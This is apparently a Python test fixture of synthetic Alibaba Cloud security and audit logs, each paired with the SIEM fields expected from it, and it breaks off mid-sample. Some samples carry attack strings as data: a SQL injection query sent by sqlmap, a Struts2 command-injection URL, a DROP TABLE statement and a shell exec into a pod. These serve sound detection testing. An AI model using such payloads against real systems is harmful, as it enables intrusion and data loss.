"""A log of each kind as Alibaba Cloud writes it, and what a SIEM should read in it: data for tests.

Made up from the documented fields; accounts and addresses are nobody's. What is expected was
worked out by hand. This module must never import anything that makes events of logs.
"""

from __future__ import annotations

from tests.support.sample import ACCOUNT, AGENT, Row, Sample, compact, log, rows
from tests.support.samples_data import DATA_SAMPLES
from tests.support.samples_gateways import GATEWAY_SAMPLES
from tests.support.samples_operations import OPERATION_SAMPLES
from tests.support.samples_protection import PROTECTION_SAMPLES
from tests.support.samples_traffic import TRAFFIC_SAMPLES

__all__ = ["SAMPLES", "Row", "Sample"]

ALERT_DETAIL = (
    '{"loginSourceIp":"203.0.113.140","loginTimes":1,"type":"login_common_location",'
    '"loginDestinationPort":22,"loginUser":"root","protocolName":"SSH","location":"青岛"}'
)


def actiontrail(**event: object) -> dict[str, str]:
    common = {"eventVersion": "1", "eventType": "ApiCall", "acsRegion": "cn-hangzhou"}
    return log("actiontrail_audit_event", event=compact(common | event), owner_id=ACCOUNT)


SAMPLES: tuple[Sample, ...] = (
    Sample(
        id="a RAM user changes a security group",
        mapping="actiontrail",
        log=actiontrail(
            eventId="0F1A2B3C-4D5E-5F60-8A7B-9C0D1E2F3A4B",
            eventName="AuthorizeSecurityGroup",
            eventSource="ecs.aliyuncs.com",
            eventTime="2026-11-03T04:00:00Z",
            eventRW="Write",
            requestId="0F1A2B3C-4D5E-5F60-8A7B-9C0D1E2F3A4B",
            apiVersion="2014-05-26",
            serviceName="Ecs",
            sourceIpAddress="203.0.113.24",
            userAgent="ecs.console.aliyun.com",
            recipientAccountId=ACCOUNT,
            resourceName="sg-bp1examplegroup",
            resourceType="ACS::ECS::SecurityGroup",
            requestParameters={"Description": "临时放行|端口=22", "PortRange": "22/22"},
            responseElements={"RequestId": "0F1A2B3C-4D5E-5F60-8A7B-9C0D1E2F3A4B"},
            userIdentity={
                "type": "ram-user",
                "userName": "运维-张伟",
                "accountId": ACCOUNT,
                "principalId": "228734567890123456",
                "accessKeyId": "LTAI5tExampleExample",
                "sessionContext": {"attributes": {"mfaAuthenticated": "true"}},
            },
            eventCategory="Management",
        ),
        product="ActionTrail",
        class_id="AuthorizeSecurityGroup",
        name="Ecs:AuthorizeSecurityGroup",
        severity="5",
        rows=rows("""
            rt devTime 1793678400000
            cat = ApiCall
            act = Write
            outcome = success
            msg = {"Description":"临时放行|端口=22","PortRange":"22/22"}
            src = 203.0.113.24
            suser usrName 运维-张伟
            suid = 228734567890123456
            spriv role ram-user
            sourceServiceName = Ecs
            destinationServiceName = ecs.aliyuncs.com
            deviceFacility = Management
            requestClientApplication = ecs.console.aliyun.com
            externalId = 0F1A2B3C-4D5E-5F60-8A7B-9C0D1E2F3A4B
            cs1 [AccessKeyId] LTAI5tExampleExample
            cs2 [Region] cn-hangzhou
            cs3 [RequestId] 0F1A2B3C-4D5E-5F60-8A7B-9C0D1E2F3A4B
            cs4 [ResourceType] ACS::ECS::SecurityGroup
            cs5 [ResourceName] sg-bp1examplegroup
            cs6 [AccountId] 1234567890123456
            flexString1 [MfaChecked] true
        """),
    ),
    Sample(
        id="a sign-in to the console fails, over IPv6",
        mapping="actiontrail",
        log=actiontrail(
            eventId="1.61_1793678400123_7f2a",
            eventName="ConsoleSignin",
            eventType="ConsoleSignin",
            eventSource="signin.aliyun.com",
            eventTime="2026-11-03T04:00:00Z",
            requestId="1.61_1793678400123_7f2a",
            serviceName="AasSub",
            sourceIpAddress="2001:db8:0:1::1a",
            userAgent="Mozilla/5.0 (Windows NT 10.0; Win64; x64) Chrome/141.0",
            errorCode="Password.NotMatch",
            errorMessage="密码错误，还可以尝试4次",
            userIdentity={
                "type": "ram-user",
                "userName": "alice",
                "accountId": ACCOUNT,
                "principalId": "238902601002299999",
            },
            additionalEventData={"mfaChecked": "false", "callbackUrl": "https://example.com/?a=b"},
        ),
        product="ActionTrail",
        class_id="ConsoleSignin",
        name="AasSub:ConsoleSignin",
        severity="7",
        rows=rows("""
            rt devTime 1793678400000
            cat = ConsoleSignin
            outcome = failure
            reason = Password.NotMatch
            msg = 密码错误，还可以尝试4次
            c6a2 src 2001:db8:0:1::1a
            suser usrName alice
            suid = 238902601002299999
            spriv role ram-user
            sourceServiceName = AasSub
            destinationServiceName = signin.aliyun.com
            requestClientApplication = Mozilla/5.0 (Windows NT 10.0; Win64; x64) Chrome/141.0
            externalId = 1.61_1793678400123_7f2a
            cs2 [Region] cn-hangzhou
            cs3 [RequestId] 1.61_1793678400123_7f2a
            cs6 [AccountId] 1234567890123456
            flexString1 [MfaChecked] false
        """),
    ),
    Sample(
        id="a service calls another one, from its host's name",
        mapping="actiontrail",
        log=actiontrail(
            eventId="8C3E9F10-2B4D-5A6C-B7E8-F90A1B2C3D4E",
            eventName="AssumeRole",
            eventSource="sts.aliyuncs.com",
            eventTime="2026-11-03T04:00:00Z",
            eventRW="Read",
            requestId="8C3E9F10-2B4D-5A6C-B7E8-F90A1B2C3D4E",
            serviceName="Sts",
            sourceIpAddress="actiontrail.aliyuncs.com",
            userAgent="actiontrail.aliyuncs.com",
            userIdentity={"type": "system", "userName": "actiontrail.aliyuncs.com"},
            referencedResources={"ACS::RAM::Role": ["aliyunserviceroleforactiontrail"]},
        )
        | {"__topic__": "actiontrail_event"},
        product="ActionTrail",
        class_id="AssumeRole",
        name="Sts:AssumeRole",
        severity="2",
        rows=rows("""
            rt devTime 1793678400000
            cat = ApiCall
            act = Read
            outcome = success
            shost = actiontrail.aliyuncs.com
            suser usrName actiontrail.aliyuncs.com
            spriv role system
            sourceServiceName = Sts
            destinationServiceName = sts.aliyuncs.com
            requestClientApplication = actiontrail.aliyuncs.com
            externalId = 8C3E9F10-2B4D-5A6C-B7E8-F90A1B2C3D4E
            cs2 [Region] cn-hangzhou
            cs3 [RequestId] 8C3E9F10-2B4D-5A6C-B7E8-F90A1B2C3D4E
            cs5 [ResourceName] {"ACS::RAM::Role":["aliyunserviceroleforactiontrail"]}
            cs6 [AccountId] 1234567890123456
        """),
    ),
    Sample(
        id="ActionTrail finds an unusual rate of calls",
        mapping="actiontrail",
        log=actiontrail(
            eventId="5A1B2C3D-4E5F-5061-8728-9A0B1C2D3E4F",
            eventType="ActionTrailInsight",
            eventCategory="Insight",
            eventTime="2026-11-03T04:00:00Z",
            recipientAccountId=ACCOUNT,
            sharedEventId="6B2C3D4E-5F60-5172-8839-AB1C2D3E4F50",
            insightDetails={
                "state": "Start",
                "insightType": "IpInsight",
                "insightObject": "203.0.113.77",
                "insightContext": {"statistics": {"insightCount": 12}},
            },
        ),
        product="ActionTrail",
        class_id="IpInsight",
        name="Insight:IpInsight",
        severity="6",
        rows=(
            Row(
                "msg",
                "msg",
                '{"state":"Start","insightType":"IpInsight","insightObject":"203.0.113.77",'
                '"insightContext":{"statistics":{"insightCount":12}}}',
            ),
            *rows("""
                rt devTime 1793678400000
                cat = ActionTrailInsight
                act = Start
                src = 203.0.113.77
                deviceFacility = Insight
                externalId = 5A1B2C3D-4E5F-5061-8728-9A0B1C2D3E4F
                cs2 [Region] cn-hangzhou
                cs6 [AccountId] 1234567890123456
            """),
        ),
    ),
    Sample(
        id="WAF blocks an injection of SQL",
        mapping="waf",
        log=log(
            "waf_access_log",
            body_bytes_sent="1138",
            bypass_matched_ids="-",
            content_type="-",
            final_action="block",
            final_plugin="waf",
            final_rule_id="115341",
            final_rule_type="sqli",
            host="shop.example.com",
            http_cookie="session=hunter2",
            http_referer="-",
            http_user_agent="sqlmap/1.9",
            http_x_forwarded_for="203.0.113.77",
            https="on",
            matched_host="*.example.com",
            querystring="id=1%27%20or%201=1--&q=%E6%89%8B%E6%9C%BA",
            real_client_ip="203.0.113.77",
            region="cn",
            remote_addr="198.51.100.8",
            remote_port="52714",
            request_length="742",
            request_method="GET",
            request_path="/search",
            request_time_msec="2",
            request_traceid="0a1b2c3d17936784005678901e4f5a",
            server_port="443",
            server_protocol="HTTP/1.1",
            ssl_cipher="ECDHE-RSA-AES128-GCM-SHA256",
            ssl_protocol="TLSv1.2",
            status="405",
            time="2026-11-03T12:00:00+08:00",
            upstream_addr="-",
            upstream_status="-",
            user_id=ACCOUNT,
            waf_action="block",
            waf_rule_id="115341",
            waf_test="false",
        ),
        product="WAF",
        class_id="waf:sqli",
        name="Web attack",
        severity="7",
        rows=rows("""
            rt devTime 1793678400000
            act = block
            outcome = failure
            src = 203.0.113.77
            dhost = shop.example.com
            dpt dstPort 443
            app = https
            request url https://shop.example.com/search?id=1%27%20or%201=1--&q=%E6%89%8B%E6%9C%BA
            requestMethod = GET
            requestClientApplication = sqlmap/1.9
            in srcBytes 742
            out dstBytes 1138
            externalId = 0a1b2c3d17936784005678901e4f5a
            cs1 [RuleId] 115341
            cs2 [RuleType] sqli
            cs3 [Plugin] waf
            cs4 [XForwardedFor] 203.0.113.77
            cs5 [Region] cn
            cs6 [AccountId] 1234567890123456
            cn1 [Status] 405
            cn3 [RequestTimeMs] 2
            flexString1 [RemoteAddress] 198.51.100.8
            flexString2 [MatchedRules] waf:115341:block
        """),
    ),
    Sample(
        id="WAF lets a request pass",
        mapping="waf",
        log=log(
            "waf_access_log",
            body_bytes_sent="20480",
            host="www.example.com",
            http_referer="https://www.example.com/商品",
            http_user_agent="Mozilla/5.0 (Linux; Android 15)",
            http_x_forwarded_for="-",
            https="",
            matched_host="www.example.com",
            querystring="-",
            real_client_ip="2001:db8::beef",
            region="int",
            remote_addr="2001:db8::beef",
            remote_port="40022",
            request_length="512",
            request_method="GET",
            request_path="/",
            request_time_msec="36",
            request_traceid="0a1b2c3d17936784015678902e4f5a",
            server_port="80",
            status="200",
            time="2026-11-03T12:00:01+08:00",
            upstream_addr="198.51.100.43:80",
            upstream_status="200",
            user_id=ACCOUNT,
        ),
        product="WAF",
        class_id="access",
        name="Web request",
        severity="2",
        rows=rows("""
            rt devTime 1793678401000
            act = pass
            outcome = success
            c6a2 src 2001:db8::beef
            spt srcPort 40022
            dhost = www.example.com
            dpt dstPort 80
            destinationTranslatedAddress dstPostNAT 198.51.100.43
            destinationTranslatedPort dstPostNATPort 80
            app = http
            request url http://www.example.com/
            requestMethod = GET
            requestClientApplication = Mozilla/5.0 (Linux; Android 15)
            requestContext = https://www.example.com/商品
            in srcBytes 512
            out dstBytes 20480
            externalId = 0a1b2c3d17936784015678902e4f5a
            cs5 [Region] int
            cs6 [AccountId] 1234567890123456
            cn1 [Status] 200
            cn2 [UpstreamStatus] 200
            cn3 [RequestTimeMs] 36
            flexString1 [RemoteAddress] 2001:db8::beef
        """),
    ),
    Sample(
        id="WAF only monitors an injection of SQL",
        mapping="waf",
        log=log(
            "waf_access_log",
            host="shop.example.com",
            https="on",
            querystring="id=1%27",
            real_client_ip="203.0.113.77",
            remote_addr="203.0.113.77",
            remote_port="52714",
            request_method="GET",
            request_path="/search",
            status="200",
            time="2026-11-03T12:00:00+08:00",
            user_id=ACCOUNT,
            waf_action="block",
            waf_rule_id="115341",
            waf_rule_type="sqli",
            waf_test="true",
        ),
        product="WAF",
        class_id="waf:sqli",
        name="Web attack",
        severity="7",
        rows=rows("""
            rt devTime 1793678400000
            act = monitor
            outcome = success
            src = 203.0.113.77
            spt srcPort 52714
            dhost = shop.example.com
            app = https
            request url https://shop.example.com/search?id=1%27
            requestMethod = GET
            cs1 [RuleId] 115341
            cs2 [RuleType] sqli
            cs3 [Plugin] waf
            cs6 [AccountId] 1234567890123456
            cn1 [Status] 200
            flexString1 [RemoteAddress] 203.0.113.77
            flexString2 [MatchedRules] waf:115341:monitor
        """),
    ),
    Sample(
        id="Cloud Firewall drops an attack",
        mapping="cloud-firewall",
        log=log(
            "cloudfirewall_access_log",
            acl_rule_id="00000000-0000-0000-0000-000000000000",
            aliuid=ACCOUNT,
            app_dpi_state="success",
            app_name="HTTP",
            attack_type_name="命令执行",
            attack_type_name_en="Command Execution",
            country_id="YY",
            direction="in",
            domain="shop.example.com",
            dst_ip="198.51.100.43",
            dst_port="8080",
            end_time="1793678403",
            in_packet_bytes="1460",
            in_packet_count="4",
            ip_protocol="tcp",
            ips_rule_id="1000073",
            ips_rule_name="Struts2 远程命令执行",
            ips_rule_name_en="Struts2 remote command execution",
            log_type="internet_log",
            out_packet_bytes="120",
            out_packet_count="2",
            region_id="cn-shanghai",
            rule_result="drop",
            rule_source="3",
            src_ip="203.0.113.99",
            src_port="41234",
            start_time="1793678400",
            tcp_seq="3883676672",
            url="/struts/index.action?cmd=id|cat",
            vul_level="3",
        ),
        product="Cloud Firewall",
        class_id="1000073",
        name="Struts2 remote command execution",
        severity="8",
        rows=rows("""
            rt devTime 1793678405000
            act = drop
            outcome = failure
            src = 203.0.113.99
            spt srcPort 41234
            dst = 198.51.100.43
            dpt dstPort 8080
            dhost = shop.example.com
            proto = tcp
            app = HTTP
            request url /struts/index.action?cmd=id|cat
            deviceDirection = 0
            in srcBytes 1460
            out dstBytes 120
            start = 1793678400000
            end = 1793678403000
            cs2 [IpsRuleId] 1000073
            cs3 [AttackType] Command Execution
            cs5 [Region] cn-shanghai
            cs6 [AccountId] 1234567890123456
            cn1 [SourcePackets=srcPackets] 4
            cn2 [DestinationPackets=dstPackets] 2
            cn3 [VulLevel] 3
        """),
    ),
    Sample(
        id="Cloud Firewall lets traffic of a NAT gateway pass",
        mapping="cloud-firewall",
        log=log(
            "cloudfirewall_access_log",
            acl_rule_id="073a1475-6e11-43e2-8b28-98cee9c60001",
            aliuid=ACCOUNT,
            app_name="Unknown",
            cloud_instance_id="ngw-bp1example",
            direction="out",
            domain="-",
            dst_ip="203.0.113.5",
            dst_port="123",
            end_time="1793678401",
            in_packet_bytes="12000",
            in_packet_count="90",
            ip_protocol="udp",
            log_type="nat_firewall_log",
            out_packet_bytes="5000000000",
            out_packet_count="3500000",
            rule_result="pass",
            src_ip="10.0.0.17",
            src_port="123",
            start_time="1793678400",
            vul_level="0",
        ),
        product="Cloud Firewall",
        class_id="nat_firewall_log:pass",
        name="Traffic passed",
        severity="2",
        rows=rows("""
            rt devTime 1793678405000
            act = pass
            outcome = success
            src = 10.0.0.17
            spt srcPort 123
            dst = 203.0.113.5
            dpt dstPort 123
            proto = udp
            deviceDirection = 1
            in srcBytes 5000000000
            out dstBytes 12000
            start = 1793678400000
            end = 1793678401000
            cs1 [AclRuleId] 073a1475-6e11-43e2-8b28-98cee9c60001
            cs4 [InstanceId] ngw-bp1example
            cs6 [AccountId] 1234567890123456
            cn1 [SourcePackets=srcPackets] 3500000
            cn2 [DestinationPackets=dstPackets] 90
            cn3 [VulLevel] 0
        """),
    ),
    Sample(
        id="a load balancer finds no answer from behind it",
        mapping="slb",
        log=log(
            "slb_layer7_access_log",
            body_bytes_sent="572",
            client_ip="203.0.113.60",
            client_port="55001",
            host="api.example.com",
            http_host="api.example.com",
            http_referer="-",
            http_user_agent="okhttp/4.12.0",
            http_x_forwarded_for="192.0.2.200",
            http_x_real_ip="203.0.113.60",
            read_request_time="0",
            request_length="318",
            request_method="POST",
            request_time="5.004",
            request_uri="/v1/orders?id=42",
            scheme="https",
            server_protocol="HTTP/2.0",
            slb_vport="443",
            slbid="lb-bp1example",
            ssl_cipher="ECDHE-RSA-AES128-GCM-SHA256",
            ssl_protocol="TLSv1.2",
            status="502",
            tcpinfo_rtt="2100",
            time="2026-11-03T12:00:00+08:00",
            upstream_addr="10.0.0.11:8080, 10.0.0.12:8080",
            upstream_response_time="5.003",
            upstream_status="502",
            vip_addr="198.51.100.20",
            write_response_time="0",
        ),
        product="SLB",
        class_id="access",
        name="Web request",
        severity="5",
        rows=rows("""
            rt devTime 1793678400000
            outcome = failure
            src = 203.0.113.60
            spt srcPort 55001
            dst = 198.51.100.20
            dhost = api.example.com
            dpt dstPort 443
            destinationTranslatedAddress dstPostNAT 10.0.0.12
            destinationTranslatedPort dstPostNATPort 8080
            app = https
            request url https://api.example.com/v1/orders?id=42
            requestMethod = POST
            requestClientApplication = okhttp/4.12.0
            in srcBytes 318
            out dstBytes 572
            deviceExternalId = lb-bp1example
            cs1 [XForwardedFor] 192.0.2.200
            cs2 [RealIp] 203.0.113.60
            cs3 [TlsProtocol] TLSv1.2
            cs4 [TlsCipher] ECDHE-RSA-AES128-GCM-SHA256
            cn1 [Status] 502
            cn2 [UpstreamStatus] 502
            cfp1 [RequestTimeSeconds] 5.004
        """),
    ),
    Sample(
        id="OSS refuses an anonymous reader",
        mapping="oss",
        log=log(
            "oss_access_log",
            **{"User-Agent": "curl/8.5.0"},
            access_id="-",
            bucket="example-backup",
            bucket_location="oss-cn-beijing-a",
            bucket_storage_type="standard",
            client_ip="203.0.113.31",
            content_length_in="-",
            content_length_out="-",
            delta_data_size="-",
            error_code="AccessDenied",
            host="example-backup.oss-cn-beijing.aliyuncs.com",
            http_method="GET",
            http_status="403",
            http_type="https",
            logging_flag="true",
            object="2026%2F%E5%B7%A5%E8%B5%84%E8%A1%A8%3D1.xlsx",
            object_size="-",
            operation="GetObject",
            owner_id=ACCOUNT,
            referer="-",
            region="cn-beijing",
            request_id="6905B2C0A1B2C3D4E5F60718",
            request_length="312",
            request_uri="/2026/%E5%B7%A5%E8%B5%84%E8%A1%A8%3D1.xlsx",
            requester_id="-",
            response_body_length="285",
            response_time="4",
            server_cost_time="3",
            sign_type="NotSign",
            sync_request="-",
            time="2026-11-03 12:00:00",
            vpc_addr="1234567890",
            vpc_id="-",
        ),
        product="OSS",
        class_id="GetObject",
        name="GetObject",
        severity="5",
        rows=rows("""
            rt devTime 1793678405000
            act = GetObject
            outcome = failure
            reason = AccessDenied
            src = 203.0.113.31
            dhost = example-backup.oss-cn-beijing.aliyuncs.com
            app = https
            fname = 工资表=1.xlsx
            filePath = 2026/工资表=1.xlsx
            request url https://example-backup.oss-cn-beijing.aliyuncs.com/2026/%E5%B7%A5%E8%B5%84%E8%A1%A8%3D1.xlsx
            requestMethod = GET
            requestClientApplication = curl/8.5.0
            in srcBytes 312
            out dstBytes 285
            externalId = 6905B2C0A1B2C3D4E5F60718
            cs1 [Bucket] example-backup
            cs3 [SignType] NotSign
            cs5 [Region] cn-beijing
            cs6 [AccountId] 1234567890123456
            cn1 [Status] 403
            cn2 [ResponseTimeMs] 4
        """),
    ),
    Sample(
        id="a user reads from RDS",
        mapping="rds",
        log=log(
            "rds_audit_log",
            check_rows="120",
            client_ip="10.0.0.17",
            db="shop",
            db_type="mysql",
            db_version="8.0",
            fail="0",
            hash="1289716283",
            instance_id="rm-bp1example",
            instance_name="订单库",
            latency="812",
            origin_time="1793678400123456",
            owner_id=ACCOUNT,
            region="cn-hangzhou",
            return_rows="3",
            sql="/* 订单 */ select id\n  from orders\n where name = '张\\\\伟' and a|b = 1",
            thread_id="90125",
            update_rows="0",
            user="shop_app",
        ),
        product="RDS",
        class_id="SELECT",
        name="SQL SELECT",
        severity="2",
        rows=(
            Row(
                "msg",
                "msg",
                "/* 订单 */ select id\n  from orders\n where name = '张\\\\伟' and a|b = 1",
            ),
            *rows("""
                rt devTime 1793678400123
                act = SELECT
                outcome = success
                src = 10.0.0.17
                suser usrName shop_app
                app = mysql
                cs1 [Database] shop
                cs2 [InstanceId] rm-bp1example
                cs3 [ThreadId] 90125
                cs4 [InstanceName] 订单库
                cs5 [Region] cn-hangzhou
                cs6 [AccountId] 1234567890123456
                cn1 [LatencyUs] 812
                cn2 [Rows] 3
                cn3 [RowsChecked] 120
            """),
        ),
    ),
    Sample(
        id="a statement fails in RDS",
        mapping="rds",
        log=log(
            "rds_audit_log",
            check_rows="0",
            client_ip="203.0.113.9",
            db="shop",
            fail="1142",
            instance_id="rm-bp1example",
            latency="95",
            origin_time="1793678400500000",
            return_rows="0",
            sql="DROP TABLE orders",
            thread_id="90131",
            update_rows="0",
            user="reporting",
        ),
        product="RDS",
        class_id="DROP",
        name="SQL DROP",
        severity="6",
        rows=rows("""
            rt devTime 1793678400500
            act = DROP
            outcome = failure
            reason = 1142
            src = 203.0.113.9
            suser usrName reporting
            msg = DROP TABLE orders
            cs1 [Database] shop
            cs2 [InstanceId] rm-bp1example
            cs3 [ThreadId] 90131
            cn1 [LatencyUs] 95
            cn2 [Rows] 0
            cn3 [RowsChecked] 0
        """),
    ),
    Sample(
        id="someone opens a shell in a pod",
        mapping="kubernetes",
        log=log(
            "",
            apiVersion="audit.k8s.io/v1",
            kind="Event",
            level="RequestResponse",
            auditID="4d2c8f3e-6b1a-4c7d-9e8f-0a1b2c3d4e5f",
            stage="ResponseComplete",
            requestURI="/api/v1/namespaces/shop/pods/web-0/exec?command=sh&stdin=true",
            verb="create",
            user=compact(
                {
                    "username": "kubernetes-admin",
                    "uid": "a1b2c3",
                    "groups": ["system:masters", "system:authenticated"],
                    "extra": {"authentication.kubernetes.io/credential-id": ["X509SHA256=ab"]},
                }
            ),
            sourceIPs='["203.0.113.12","10.0.0.2"]',
            userAgent="kubectl/v1.31.1 (linux/amd64) kubernetes/948afe5",
            objectRef=compact(
                {
                    "resource": "pods",
                    "namespace": "shop",
                    "name": "web-0",
                    "apiVersion": "v1",
                    "subresource": "exec",
                }
            ),
            responseStatus='{"metadata":{},"code":101}',
            requestReceivedTimestamp="2026-11-03T04:00:00.123456Z",
            stageTimestamp="2026-11-03T04:00:04.654321Z",
            annotations=compact(
                {
                    "authorization.k8s.io/decision": "allow",
                    "authorization.k8s.io/reason": 'RBAC: allowed by "cluster-admin"',
                }
            ),
        ),
        product="Kubernetes",
        class_id="create:pods/exec",
        name="create pods exec",
        severity="6",
        rows=rows("""
            rt devTime 1793678400123
            end = 1793678404654
            cat = ResponseComplete
            act = create
            outcome = success
            src = 203.0.113.12
            suser usrName kubernetes-admin
            suid = a1b2c3
            request url /api/v1/namespaces/shop/pods/web-0/exec?command=sh&stdin=true
            requestClientApplication = kubectl/v1.31.1 (linux/amd64) kubernetes/948afe5
            externalId = 4d2c8f3e-6b1a-4c7d-9e8f-0a1b2c3d4e5f
            cs1 [Namespace] shop
            cs2 [ResourceType] pods
            cs3 [ObjectName] web-0
            cs5 [Groups] ["system:masters","system:authenticated"]
            cs6 [Decision] allow
            cn1 [Status] 101
        """),
    ),
    Sample(
        id="Kubernetes forbids a service account to read secrets",
        mapping="kubernetes",
        log=log(
            "",
            auditID="5e3d9f4f-7c2b-4d8e-8f90-1b2c3d4e5f60",
            stage="ResponseComplete",
            requestURI="/api/v1/secrets",
            verb="list",
            user='{"username":"system:serviceaccount:shop:default"}',
            sourceIPs='["2001:db8::7"]',
            userAgent="curl/8.5.0",
            objectRef='{"resource":"secrets","apiVersion":"v1"}',
            responseStatus=compact(
                {
                    "status": "Failure",
                    "message": 'secrets is forbidden: User "default" cannot list',
                    "reason": "Forbidden",
                    "code": 403,
                }
            ),
            requestReceivedTimestamp="2026-11-03T04:00:00.000000Z",
            stageTimestamp="2026-11-03T04:00:00.002000Z",
            annotations='{"authorization.k8s.io/decision":"forbid"}',
        ),
        product="Kubernetes",
        class_id="list:secrets",
        name="list secrets",
        severity="6",
        rows=rows("""
            rt devTime 1793678400000
            end = 1793678400002
            cat = ResponseComplete
            act = list
            outcome = failure
            reason = Forbidden
            msg = secrets is forbidden: User "default" cannot list
            c6a2 src 2001:db8::7
            suser usrName system:serviceaccount:shop:default
            request url /api/v1/secrets
            requestClientApplication = curl/8.5.0
            externalId = 5e3d9f4f-7c2b-4d8e-8f90-1b2c3d4e5f60
            cs2 [ResourceType] secrets
            cs6 [Decision] forbid
            cn1 [Status] 403
        """),
    ),
    Sample(
        id="someone reads a secret as another user",
        mapping="kubernetes",
        log=log(
            "",
            auditID="6f4eaf50-8d3c-4e9f-9fa1-2c3d4e5f6071",
            stage="ResponseComplete",
            requestURI="/api/v1/namespaces/shop/secrets/db",
            verb="get",
            user='{"username":"alice","groups":["developers"]}',
            impersonatedUser='{"username":"admin","groups":["system:masters"]}',
            sourceIPs='["203.0.113.12"]',
            objectRef='{"resource":"secrets","namespace":"shop","name":"db","apiVersion":"v1"}',
            responseStatus='{"code":200}',
            requestReceivedTimestamp="2026-11-03T04:00:00.000000Z",
        ),
        product="Kubernetes",
        class_id="get:secrets",
        name="get secrets",
        severity="5",
        rows=rows("""
            rt devTime 1793678400000
            cat = ResponseComplete
            act = get
            outcome = success
            src = 203.0.113.12
            suser usrName alice
            duser = admin
            request url /api/v1/namespaces/shop/secrets/db
            externalId = 6f4eaf50-8d3c-4e9f-9fa1-2c3d4e5f6071
            cs1 [Namespace] shop
            cs2 [ResourceType] secrets
            cs3 [ObjectName] db
            cs5 [Groups] ["developers"]
            cn1 [Status] 200
            flexString1 [ImpersonatedGroups] ["system:masters"]
        """),
    ),
    Sample(
        id="Security Center finds an unusual login",
        mapping="security-center-alert",
        log=log(
            "sas-security-log",
            data_source="aegis_login_log",
            detail=ALERT_DETAIL,
            instance_id="i-bp1example",
            internet_ip="198.51.100.77",
            intranet_ip="10.0.0.31",
            level="suspicious",
            name="ECS在非常用地登录",
            operation="new",
            owner_id=ACCOUNT,
            start_time="1793678400",
            status="1",
            unique_info="2536dd765f804916a1fa3b9516b5d512",
            uuid=AGENT,
        ),
        product="Security Center",
        class_id="login_common_location",
        name="ECS在非常用地登录",
        severity="6",
        rows=(
            Row("msg", "msg", ALERT_DETAIL),
            *rows("""
                rt devTime 1793678400000
                deviceExternalId = 7b4f5f0e-3c9a-4f53-9d40-0c1f3a5b7d11
                cs4 [InstanceId] i-bp1example
                cs6 [AccountId] 1234567890123456
                cat = aegis_login_log
                act = new
                src = 203.0.113.140
                dst = 10.0.0.31
                dpt dstPort 22
                duser = root
                externalId = 2536dd765f804916a1fa3b9516b5d512
                cs1 [Level] suspicious
                cs2 [InternetIp] 198.51.100.77
                cn1 [Status] 1
            """),
        ),
    ),
    Sample(
        id="Security Center finds a vulnerability",
        mapping="security-center-vulnerability",
        log=log(
            "sas-vul-log",
            extend_content='{"cveList":["CVE-2026-0001"],"necessity":{"level":"asap"}}',
            instance_id="i-bp1example",
            instance_name="web-1",
            internet_ip="198.51.100.77",
            intranet_ip="10.0.0.31",
            operation="new",
            owner_id=ACCOUNT,
            risk_level="high",
            start_time="1793678400",
            status="1",
            tag="oval",
            type="cve",
            uuid=AGENT,
            vul_alias_name="RHSA-2026:0001: openssl 安全更新",
            vul_name="oval:com.redhat.rhsa:def:20260001",
            vul_primary_id="110421",
        ),
        product="Security Center",
        class_id="oval:com.redhat.rhsa:def:20260001",
        name="RHSA-2026:0001: openssl 安全更新",
        severity="8",
        rows=rows("""
            rt devTime 1793678400000
            deviceExternalId = 7b4f5f0e-3c9a-4f53-9d40-0c1f3a5b7d11
            cs4 [InstanceId] i-bp1example
            cs6 [AccountId] 1234567890123456
            cat = cve
            act = new
            msg = {"cveList":["CVE-2026-0001"],"necessity":{"level":"asap"}}
            dst = 10.0.0.31
            dhost = web-1
            cs1 [Status] unfixed
            cs2 [InternetIp] 198.51.100.77
            cs3 [Tag] oval
            flexString1 [RiskLevel] high
            flexString2 [VulnerabilityId] 110421
        """),
    ),
    Sample(
        id="Security Center finds a weak password",
        mapping="security-center-baseline",
        log=log(
            "sas-hc-log",
            check_item_level="high",
            check_item_name="SSH弱口令",
            check_type="身份鉴别",
            instance_id="i-bp1example",
            operation="verify",
            owner_id=ACCOUNT,
            risk_level="medium",
            risk_name="Linux系统登录弱口令检测",
            start_time="1793678400",
            status="1",
            sub_type_alias_name="SSH弱口令",
            sub_type_name="ssh_weak_password",
            type_alias_name="弱口令",
            type_name="weak_password",
            uuid=AGENT,
        ),
        product="Security Center",
        class_id="weak_password:ssh_weak_password",
        name="SSH弱口令",
        severity="8",
        rows=rows("""
            rt devTime 1793678400000
            deviceExternalId = 7b4f5f0e-3c9a-4f53-9d40-0c1f3a5b7d11
            cs4 [InstanceId] i-bp1example
            cs6 [AccountId] 1234567890123456
            cat = weak_password
            act = verify
            msg = Linux系统登录弱口令检测
            cs1 [Type] 弱口令
            cs2 [SubType] SSH弱口令
            cs3 [CheckType] 身份鉴别
            flexString1 [RiskLevel] medium
            cn1 [Status] 1
        """),
    ),
    Sample(
        id="someone logs in to a host",
        mapping="security-center-login",
        log=log(
            "aegis-log-login",
            dst_port="22",
            host_ip="10.0.0.31",
            instance_id="i-bp1example",
            login_count="3",
            login_type="SSHLOGIN",
            owner_id=ACCOUNT,
            sas_group_name="生产",
            src_ip="203.0.113.140",
            start_time="1793678400",
            username="root",
            uuid=AGENT,
        ),
        product="Security Center",
        class_id="SSHLOGIN",
        name="Login to a host",
        severity="3",
        rows=rows("""
            rt devTime 1793678400000
            deviceExternalId = 7b4f5f0e-3c9a-4f53-9d40-0c1f3a5b7d11
            cs4 [InstanceId] i-bp1example
            cs5 [AssetGroup] 生产
            cs6 [AccountId] 1234567890123456
            act = login
            outcome = success
            src = 203.0.113.140
            dst = 10.0.0.31
            dpt dstPort 22
            duser = root
            suser usrName root
            app = ssh
            cnt = 3
        """),
    ),
    Sample(
        id="someone tries passwords, in the older names of the fields",
        mapping="security-center-brute-force",
        log=log(
            "aegis-log-crack",
            ip="10.0.0.32",
            owner_id=ACCOUNT,
            uuid=AGENT,
            warn_count="148",
            warn_ip="203.0.113.141",
            warn_port="3389",
            warn_type="RDPLOGIN",
            warn_user="administrator",
        ),
        product="Security Center",
        class_id="brute-force:RDPLOGIN",
        name="Brute force against a host",
        severity="6",
        rows=rows("""
            rt devTime 1793678405000
            deviceExternalId = 7b4f5f0e-3c9a-4f53-9d40-0c1f3a5b7d11
            cs6 [AccountId] 1234567890123456
            act = login
            outcome = failure
            src = 203.0.113.141
            dst = 10.0.0.32
            dpt dstPort 3389
            duser = administrator
            suser usrName administrator
            app = rdp
            cnt = 148
        """),
    ),
    Sample(
        id="a process starts",
        mapping="security-center-process",
        log=log(
            "aegis-log-process",
            cmd_chain='[{"9883":"bash -c kill -0 -- -6274"}]',
